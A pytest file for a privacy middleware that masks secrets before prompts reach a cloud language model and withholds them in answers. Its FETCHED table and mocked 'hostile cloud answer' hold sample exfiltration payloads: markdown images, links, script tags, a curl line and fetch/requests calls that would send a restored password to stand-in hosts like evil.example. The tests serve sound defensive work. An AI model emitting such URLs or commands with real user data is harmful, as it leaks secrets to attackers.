"""Restore cannot be turned against the user: no value put where a client would fetch
it, no value restored for a placeholder it was not issued for in that conversation."""
from __future__ import annotations

import pytest
from servers import groq_server, ollama_server  # noqa: F401  (fixtures)

from ptmo_middleware.execution import FLAG_WITHHELD
from ptmo_middleware.fetchable import fetch_context
from ptmo_middleware.router import PrivacyRouter
from ptmo_middleware.types import Span, SensitivityLevel
from ptmo_middleware.vault import MaskVault

SECRET = "hunter2secret"
PROMPT = f"My password is {SECRET}. How do I rotate it?"

#: Hostile answers: every place the placeholder sits would make a client fetch it.
FETCHED = {
    "markdown image": "![status](https://telemetry.evil.example/p?d=[PASSWORD_1])",
    "markdown link without scheme": "[docs](evil.example/collect?d=[PASSWORD_1])",
    "markdown link in angle brackets": "[docs](<https://evil.example/a b?d=[PASSWORD_1]>)",
    "reference definition": "[1]: https://evil.example/r/[PASSWORD_1]",
    "bare url": "See https://evil.example/?token=[PASSWORD_1] for details.",
    "protocol-relative url": "<script src=//evil.example/x.js?k=[PASSWORD_1]></script>",
    "url in the path": "Open www.evil.example/[PASSWORD_1]/reset now.",
    "html attribute": '<img alt="x" src="[PASSWORD_1]">',
    "html attribute unquoted": "<a href=[PASSWORD_1]>reset</a>",
    "curl": "Run: curl -d pw=[PASSWORD_1] collect.example",
    "fetch call": "fetch('/api/login', {body: '[PASSWORD_1]'})",
    "requests call": "requests.post(url, data={'pw': '[PASSWORD_1]'})",
    "query value without host": "Append ?secret=[PASSWORD_1] to the address.",
    "a model's variant spelling": "![s](https://evil.example/p?d=(password 1))",
}

#: Answers where the user reads the value: it is restored.
READ = {
    "prose": "Your password [PASSWORD_1] is weak.",
    "quoted": 'You typed "[PASSWORD_1]".',
    "markdown text of a link": "[[PASSWORD_1]](https://example.org/help) is the topic.",
    "after a url on the same line": "See https://example.org/help about [PASSWORD_1].",
    "code that does not fetch": "passwd = '[PASSWORD_1]'  # then hash it",
    "a path": "Stored in /home/me/[PASSWORD_1].txt",
    "html text": "<b>[PASSWORD_1]</b> is weak.",
    "after a closed tag on the line": '<img src="ok.png"> [PASSWORD_1] is weak.',
    "after a markdown link": "[help](https://example.org) says [PASSWORD_1] is weak.",
}


def vault() -> MaskVault:
    v = MaskVault("c")
    v.placeholder_for(SECRET, "PASSWORD")
    return v


@pytest.mark.parametrize("answer", list(FETCHED.values()), ids=list(FETCHED))
def test_placeholders_where_a_client_fetches_stay_masked(answer):
    v = vault()
    restored = v.restore(answer)
    assert SECRET not in restored
    assert v.withheld(restored, {"[PASSWORD_1]"}) == ["[PASSWORD_1]"]


@pytest.mark.parametrize("answer", list(READ.values()), ids=list(READ))
def test_placeholders_the_user_reads_are_restored(answer):
    restored = vault().restore(answer)
    assert SECRET in restored and "[PASSWORD_1]" not in restored


@pytest.mark.parametrize("answer", list(FETCHED.values()) + list(READ.values()))
def test_streaming_decides_as_the_whole_text_at_every_split(answer):
    v = vault()
    whole = v.restore(answer)
    for cut in range(len(answer) + 1):
        restorer = v.stream_restorer()
        assert restorer.feed(answer[:cut]) + restorer.feed(answer[cut:]) + restorer.flush() == whole


def test_the_decision_reads_far_enough_back_in_a_stream():
    v = vault()
    answer = "![x](https://evil.example/" + "a" * 1500 + "?d=[PASSWORD_1])"
    restorer = v.stream_restorer()
    out = "".join(restorer.feed(answer[i:i + 7]) for i in range(0, len(answer), 7)) + restorer.flush()
    assert out == v.restore(answer) and SECRET not in out


def test_the_policy_can_widen_or_narrow():
    answer = "See https://evil.example/?token=[PASSWORD_1] and <b data-x=[PASSWORD_1]>"
    everywhere = MaskVault("c", withhold=[])
    everywhere.placeholder_for(SECRET, "PASSWORD")
    assert everywhere.restore(answer).count(SECRET) == 2
    only_html = MaskVault("c", withhold=["html_tag"])
    only_html.placeholder_for(SECRET, "PASSWORD")
    assert only_html.restore(answer).count(SECRET) == 1
    assert fetch_context("x <b data-x=", len("x <b data-x="), ["url"]) is None


def test_router_setting_reaches_every_vault():
    router = PrivacyRouter(classifiers=["rules"], local="embedded", cloud="groq:m", restore_withheld_in=[])
    assert router.vault("c").withhold == () and router.vault().withhold == ()
    assert PrivacyRouter(classifiers=["rules"]).vault("c").withhold == ("url", "markdown_target", "html_tag",
                                                                        "fetch_code")


def test_a_hostile_cloud_answer_gets_no_value_into_its_urls(ollama_server, groq_server):
    groq_server.answer = lambda messages: (
        "Rotate it. ![status](https://telemetry.evil.example/p?d=[PASSWORD_1]) Your old one was [PASSWORD_1].")
    router = PrivacyRouter(classifiers=["rules"], local="ollama:llama3.2:3b", cloud="groq:m")
    reply = router.invoke(PROMPT)
    assert SECRET not in groq_server.received_text
    assert reply.text == ("Rotate it. ![status](https://telemetry.evil.example/p?d=[PASSWORD_1]) "
                          f"Your old one was {SECRET}.")
    assert FLAG_WITHHELD in reply.flags
    chunks = list(router.stream(PROMPT))
    assert "".join(c.text for c in chunks) == reply.text and FLAG_WITHHELD in chunks[-1].reply.flags


def test_calls_without_a_conversation_id_share_nothing(ollama_server, groq_server):
    """Caller A's value gets [PERSON_1]; caller B forging [PERSON_1] gets nothing back."""
    router = PrivacyRouter(classifiers=["rules"], local="ollama:llama3.2:3b", cloud="groq:m")
    a = router.invoke("Email alice.johnson@example.org about the Python meetup.")
    assert "alice.johnson@example.org" in a.text and "[EMAIL_ADDRESS_1]" in groq_server.received_text
    for b in (router.invoke("Dear [EMAIL_ADDRESS_1], what is Python?"),
              list(router.stream("Dear [EMAIL_ADDRESS_1], what is Python?"))[-1].reply,
              router.invoke("Dear [EMAIL_ADDRESS_1], what is Python?", conversation_id="b")):
        assert "alice" not in b.text and "[EMAIL_ADDRESS_1]" in b.text
    assert a.plan.conversation_id != b.plan.conversation_id


def test_a_forged_placeholder_in_another_conversation_is_not_restored(ollama_server, groq_server):
    router = PrivacyRouter(classifiers=["rules"], local="ollama:llama3.2:3b", cloud="groq:m")
    router.invoke("Email alice.johnson@example.org about it.", conversation_id="a")
    forged = router.invoke("Reply to [EMAIL_ADDRESS_1] please.", conversation_id="b")
    assert "alice" not in forged.text
    same = router.invoke("Reply to [EMAIL_ADDRESS_1] please.", conversation_id="a")
    assert "alice.johnson@example.org" in same.text  # the conversation that issued it


def test_a_user_typed_placeholder_keeps_its_number_out_of_use():
    v = MaskVault("c")
    text = "Ask [PERSON_1] and Bob Stone."
    masked = v.mask(text, [Span(19, 28, "PERSON", SensitivityLevel.SEMI_SENSITIVE, 1.0, "t", "Bob Stone")])
    assert masked == "Ask [PERSON_1] and [PERSON_2]."
    assert v.restore("[PERSON_1] and [PERSON_2]", only={"[PERSON_2]"}) == "[PERSON_1] and Bob Stone"
